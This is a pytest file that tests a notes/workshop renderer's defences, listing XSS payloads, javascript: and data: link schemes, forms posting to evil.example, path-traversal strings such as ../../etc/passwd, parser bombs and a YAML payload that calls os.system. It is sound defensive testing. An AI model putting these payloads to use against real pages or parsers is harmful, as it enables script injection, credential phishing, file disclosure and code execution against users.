"""What hostile notes and hostile values cannot do to a reader."""

import time
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from dashboard.notes import Workshop
from tests.notes_fixtures import dom, homeroom, load_here, mistakes, native, warnings, write

ELEMENTS = set(
    """a abbr b blockquote br button caption cite code col colgroup dd del details dfn div dl dt em
    figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q s samp section
    small span strong sub summary sup table tbody td tfoot th thead tr u ul var wbr""".split()  # noqa: SIM905  # a list to read
)
ATTRIBUTES = set(
    """href name target rel src alt width height title class id lang dir start reversed open type
    checked disabled align colspan rowspan scope span data-action data-terminal data-chapter role
    aria-describedby aria-label""".split()  # noqa: SIM905  # a list to read
)


def assert_harmless(page: BeautifulSoup) -> None:
    """Hold every element, attribute, address and id of a page to what notes may have."""
    for element in page.find_all(True):
        assert element.name in ELEMENTS
        assert set(element.attrs) <= ATTRIBUTES
        for attribute in ("href", "src"):
            address = element.get(attribute, "https:")
            scheme = address.partition(":")[0].lower() if ":" in address.split("/")[0] else ""
            assert scheme in ("", "http", "https", "mailto"), address
        name = element.get("id", "action-")
        assert name.startswith(("user-content-", "action-")), name
        assert element.get("name", "user-content-").startswith("user-content-")


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script-in-text": "a <script>alert(1)</script> b",
    "onerror": '<img src=x onerror="alert(1)">',
    "onerror-markdown": '![x](x" onerror="alert(1))',
    "svg": "<svg onload=alert(1)><a xlink:href='javascript:1'>x</a></svg>",
    "math": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    "formaction": '<input type="image" formaction="javascript:alert(1)" src="x">',
    "style": "<style>body { background: url(https://evil.example) }</style>",
    "style-attribute": '<p style="background: url(https://evil.example)">x</p>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "object": '<object data="x.swf"></object><embed src="x.swf">',
    "video": '<video autoplay src="https://evil.example/x.mp4"></video><audio src=x></audio>',
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "srcset": '<img srcset="https://evil.example/x.png 1x" src="x.png">',
    "picture": '<picture><source srcset="https://evil.example/x.png"></picture>',
    "button": '<button onclick="alert(1)">x</button>',
    "details": "<details ontoggle=alert(1) open>x</details>",
    "ids": '<p id="notes">x</p><a name="getElementById">y</a><img id=config alt=x>',
    "heading-ids": '# location\n\n<h2 id="body">x</h2>',
    "classes": '<p class="menu drawer action-run fa-solid">x</p>',
    "data": '<p data-action="execute" data-do="restart">x</p>',
    "target": '<a href="https://evil.example" target="_top" rel="opener">x</a>',
    "slashes": "<p/onclick=alert(1)>x</p>",
    "unclosed": '<div title="\n\n[x](https://example.org)\n\n```execute\nls\n```\n\n<p title="',
    "nested-quotes": '[x](https://example.org/"onmouseover="alert(1))',
    "title": "[x](https://example.org '\" onmouseover=\"alert(1)')",
    "code-class": '```"><script>alert(1)</script>\nx\n```',
    "reference": '[x]\n\n[x]: javascript:alert(1) "onclick=1"',
    "placeholders": "\x02wzxhzdk:0\x03 \x02amp\x03 \ue0000\ue001 \ue0020\ue003 \ue005x",
    "broken-picture": '![x](x" onerror="alert(1))`%username%`',
    "plaintext": "<plaintext>x",
    "textarea": "<textarea><img src=x onerror=alert(1)></textarea>",
}


@pytest.mark.parametrize("markdown", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_html(tmp_path: Path, markdown: str) -> None:
    """No note brings an element or attribute that is not allowed (security rows 60, 64)."""
    page = dom(homeroom(tmp_path, f"before\n\n{markdown}\n\nafter"))

    assert_harmless(page)
    assert "before" in page.text
    assert not any("\ue000" <= char <= "\ue00f" for char in page.text)
    assert "alert(1)" not in str(page.find_all(["script", "style"]))


SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt&#58;alert(1)",
    "java&#10;script:alert(1)",
    "&#1;javascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "blob:https://x",
    "ftp://example.org",
)


@pytest.mark.parametrize("address", SCHEMES)
def test_schemes(tmp_path: Path, address: str) -> None:
    """Links have no scheme but http, https and mailto, however it is written (security row 61)."""
    text = f'[x]({address}) <{address}> ![y]({address})\n\n<a href="{address}">z</a>'
    page = dom(homeroom(tmp_path, text))

    assert_harmless(page)
    assert not [link for link in page.find_all("a") if "alert" in link.get("href", "")]


@pytest.mark.parametrize(
    "value", ["javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,x"]
)
@pytest.mark.parametrize(
    "text",
    [
        "[x](%evil%)",
        '<a href="%evil%">x</a>',
        "<a href=%evil%>x</a>",
        "<%evil%>",
        "[x]\n\n[x]: %evil%",
    ],
)
def test_schemes_from_variables(tmp_path: Path, text: str, value: str) -> None:
    """A value cannot give a link a forbidden scheme (security rows 61, 69)."""
    page = dom(homeroom(tmp_path, text, {"evil": value}))

    assert_harmless(page)
    assert page.select("[href]") == []


def test_schemes_pieced_together(tmp_path: Path) -> None:
    """Neither can a scheme be made of a value and text around it (security rows 61, 69)."""
    page = dom(
        homeroom(
            tmp_path, "[x](java%s%(1)) [y](%j%script:alert(1))", {"s": "script:alert", "j": "java"}
        )
    )

    assert page.select("[href]") == []


VALUES = (
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "x onmouseover=alert(1) y",
    "</code></pre><script>alert(1)</script>",
    "**bold** [x](https://evil.example) `code`",
    "\n\n# heading\n\n```execute\nrm\n```\n",
    "&lt;b&gt;",
    "\ue0020\ue003\ue005",
)
PLACES = (
    "%v%",
    "`%v%`",
    "# %v%",
    "| %v% |\n|---|\n| %v% |",
    "[%v%](https://example.org/%v%)",
    '<p title="%v%">%v%</p>',
    "<p title=%v%>x</p>",
    "```\n%v%\n```",
    "```execute\necho %v%\n```",
    "![%v%](https://example.org/%v%.png)",
    "- [ ] %v%\n\n> %v%",
)


@pytest.mark.parametrize("value", VALUES)
@pytest.mark.parametrize("place", PLACES)
def test_values_are_data(tmp_path: Path, place: str, value: str) -> None:
    """A variable's value is shown as text: it makes no element anywhere (security row 69)."""
    page = dom(homeroom(tmp_path, place, {"v": value}))
    plain = dom(homeroom(tmp_path, place, {"v": "plain"}))

    assert_harmless(page)
    assert [e.name for e in plain.find_all(True)] == [e.name for e in page.find_all(True)]
    assert [set(e.attrs) for e in plain.find_all(True)] == [
        set(e.attrs) for e in page.find_all(True)
    ]


def test_literal_templates(tmp_path: Path) -> None:
    """Text that other tools would evaluate stays as it is written (security row 69)."""
    text = "%token% {{7*7}} ${VAR} {% raw %} <%= 1 %>".replace("<%= 1 %>", "#{1}")

    assert dom(homeroom(tmp_path, text)).text == text


def test_external_links(tmp_path: Path) -> None:
    """A link to another site opens beside, and tells that site nothing (security row 66)."""
    text = '[a](https://example.org) <https://b.example> <a href="//c.example" target="x">c</a>'
    links = dom(homeroom(tmp_path, text)).find_all("a")

    assert len(links) == 3
    assert all(link["rel"] == ["noopener", "noreferrer"] for link in links)
    assert all(link["target"] == "_blank" for link in links)


def test_remote_pictures_are_not_loaded(tmp_path: Path) -> None:
    """No picture comes from a host that the workshop does not name (security row 65)."""
    text = (
        "![a](https://evil.example/a.png)\n![b](//evil.example/b.png)\n"
        '<img src="https://evil.example/c.png"><img src="https://u@img.example/d.png">'
        "![e](https://img.example.evil.example/e.png)"
    )
    page = dom(native(tmp_path, text, "images: [img.example]\n"))

    assert_harmless(page)
    assert page.find_all("img") == []


TRAVERSAL = {
    "dots": "../../etc/passwd",
    "picture": "../../../../etc/x.png",
    "encoded": "%2e%2e%2f%2e%2e%2fsecret.png",
    "backslash": "..%5c..%5csecret.png",
    "backslashes": "..\\\\..\\\\secret.png",
    "absolute": "/etc/passwd",
    "nul": "a%00.png",
    "hidden": "../.git/x.png",
    "link-outside": "outside.png",
    "folder": "../chapters",
    "description": "../workshop.yaml",
}


@pytest.mark.parametrize("address", TRAVERSAL.values(), ids=TRAVERSAL.keys())
def test_pictures_stay_inside(tmp_path: Path, address: str) -> None:
    """A picture outside the workshop, or none at all, is a mistake (security rows 62, 63)."""
    files = {
        "w/workshop.yaml": "title: T\n",
        "w/chapters/01-page.md": f"one\n\n![x]({address})",
        "w/.git/x.png": "x",
        "secret.png": "x",
    }
    write(tmp_path, files)
    (tmp_path / "w/chapters/outside.png").symlink_to(tmp_path / "secret.png")

    (found,) = mistakes(tmp_path / "w")
    assert found.startswith("chapters/01-page.md:3: ")


def test_chapters_stay_inside(tmp_path: Path) -> None:
    """A chapter that is a link to a file elsewhere is not read (security row 62)."""
    write(tmp_path, {"w/workshop.yaml": "title: T\n", "w/chapters/02-b.md": "b", "secret": "s"})
    (tmp_path / "w/chapters/01-a.md").symlink_to(tmp_path / "secret")

    assert mistakes(tmp_path / "w")[0].startswith("chapters/01-a.md:1: cannot be read")


@pytest.mark.parametrize("name", ["../secret", "/etc/passwd", "a/../../secret", "..\\secret", ""])
def test_modules_stay_inside(tmp_path: Path, name: str) -> None:
    """A Homeroom module cannot name a file outside content/ (security row 62)."""
    files = {
        "workshop.yaml": f"modules:\n  activate: [page, '{name}']\n",
        "modules.yaml": "modules:\n  page: {name: P}\n",
        "content/page.md": "p",
        "secret.md": "secret",
    }
    workshop = load_here(write(tmp_path, files))

    assert [chapter.slug for chapter in workshop.chapters] == ["page"]


def test_file_names(tmp_path: Path) -> None:
    """A hostile file name is a mistake, not HTML (security row 71)."""
    name = "<img src=x onerror=1>.md"
    files = {"workshop.yaml": "title: T\n", f"chapters/{name}": "x", "chapters/01-a.md": "a"}

    assert mistakes(write(tmp_path, files)) == [
        f"chapters/{name}:1: a chapter's name is a number, a dash and a word, like 01-welcome.md"
    ]


N = 100_000
BOMBS = {
    "quotes": ">" * N,
    "quotes-apart": "> " * N,
    "brackets": "[" * N,
    "brackets-in-lines": ("x" + "[" * 9999 + "\n") * 9,
    "backticks-in-text": ("x" + "`" * 19_000 + "\n\n") * 50,
    "stars": ("x" + "*a **b " * 2500 + "\n\n") * 50,
    "raw-tags": "<div>\n" + "<b>" * 100_000,
    "raw-attributes": "<div " + "a" * N + "=" + "b=c " * N + ">",
    "addresses": "<div>\n" + "href=" * 100_000,
    "links-to-nowhere": "<div>\n" + "".join(f"<a href=n{n}>x</a>" for n in range(20_000)),
    "links-to-nothing": "".join(f"[x](n{n})\n\n" for n in range(4_990)),
    "unknown-names": "".join(f"%name{n}%\n\n" for n in range(4_990)),
    "lists": "\n".join("  " * depth + "- a" for depth in range(500)),
    "loose-items": "- a\n\n" * 4_900,
    "paragraphs": "a\n\n" * 4_900,
    "tables": ("|a" * 5000 + "\n" + "|-" * 5000 + "\n" + ("|a" * 5000 + "\n") * 2 + "\n") * 30,
    "headings": "# a\n" * 9_000,
    "fences": "```execute\nx\n```\n" * 3_300,
    "colours": "```python\n" + "f(x)[" * 3900 + "\n```\n",
    "many-colours": ("```python\n" + "f(x)[" * 3900 + "\n```\n") * 12,
    "variables": "%username% " * 1500 + "\n\n",
    "notes": "!!! note\n" * 9_000,
}


@pytest.mark.parametrize("chapter", BOMBS.values(), ids=BOMBS.keys())
def test_bombs(tmp_path: Path, chapter: str) -> None:
    """Text made to be slow is shown or refused in less than two seconds (security row 68)."""
    homeroom(tmp_path, "warm")
    begun = time.process_time()
    workshop = homeroom(tmp_path, chapter[: 1024 * 1024 - 1])

    assert time.process_time() - begun < 2
    assert workshop.chapters[0].html


def test_too_large(tmp_path: Path) -> None:
    """A chapter of more than 1 MiB is not read; the others are shown (security row 68)."""
    files: dict[str, str | bytes] = {"chapters/02-big.md": b"a" * 50 * 1024 * 1024}
    workshop = native(tmp_path, "small", files=files)

    assert warnings(workshop) == [
        "chapters/02-big.md:1: warning: too large: more than 1 MiB is not shown"
    ]
    assert "too large to be shown" in workshop.chapters[1].html
    assert "small" in workshop.chapters[0].html


YAML_BOMBS = {
    "aliases": "a: &a [x,x,x,x,x,x,x,x,x,x]\n"
    + "".join(f"b{n}: &b{n} [{', '.join([f'*b{n - 1}' if n else '*a'] * 10)}]\n" for n in range(9)),
    "nesting": "title: " + "[" * 5000,
    "mappings": "".join(" " * depth + "a:\n" for depth in range(3000)),
    "object": "title: !!python/object/apply:os.system ['touch /tmp/owned']",
}


@pytest.mark.parametrize("text", YAML_BOMBS.values(), ids=YAML_BOMBS.keys())
def test_yaml_bombs(tmp_path: Path, text: str) -> None:
    """A description made to be slow, or to run something, is a mistake (security row 68)."""
    begun = time.process_time()

    assert mistakes(write(tmp_path, {"workshop.yaml": text, "chapters/01-a.md": "a"}))
    assert time.process_time() - begun < 2


def test_titles_are_text(tmp_path: Path) -> None:
    """Titles and descriptions are plain text, for the page to escape (security row 71)."""
    workshop: Workshop = native(
        tmp_path, "---\ntitle: <b>x</b> %username%\n---\ntext", "description: <i>\n"
    )

    assert (workshop.chapters[0].title, workshop.description) == ("<b>x</b> ada", "<i>")
